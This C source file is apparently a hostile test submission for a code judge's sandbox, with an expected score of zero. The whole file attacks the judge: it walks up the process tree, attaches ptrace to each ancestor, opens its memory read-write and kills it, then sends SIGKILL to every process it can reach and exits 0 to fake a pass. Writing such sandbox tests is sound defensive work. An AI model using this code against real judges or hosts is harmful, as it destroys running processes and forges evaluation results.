/*
 * Forger: stops, traces, rewrites and kills every ancestor (the judge, the
 * sandbox's init, the worker), then every process it may signal, then exits
 * 0. Score: 0
 */
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <sys/ptrace.h>
#include <unistd.h>

static pid_t parent_of(pid_t pid)
{
	char path[64];
	int ppid = 0;
	FILE *stat;

	snprintf(path, sizeof(path), "/proc/%d/stat", (int)pid);
	stat = fopen(path, "r");
	if (stat && fscanf(stat, "%*d %*s %*c %d", &ppid) != 1)
		ppid = 0;
	if (stat)
		fclose(stat);
	return ppid;
}

static void forge(void)
{
	for (pid_t pid = getppid(); pid > 1; pid = parent_of(pid)) {
		char path[64];
		int mem;

		ptrace(PTRACE_ATTACH, pid, 0, 0);
		snprintf(path, sizeof(path), "/proc/%d/mem", (int)pid);
		mem = open(path, O_RDWR);
		if (mem != -1)
			dprintf(2, "forger: opened %s\n", path);
		kill(pid, SIGSTOP);
		kill(-pid, SIGKILL);
		kill(pid, SIGKILL);
	}
	kill(0, SIGKILL);
	kill(-1, SIGKILL);
	_exit(0);
}
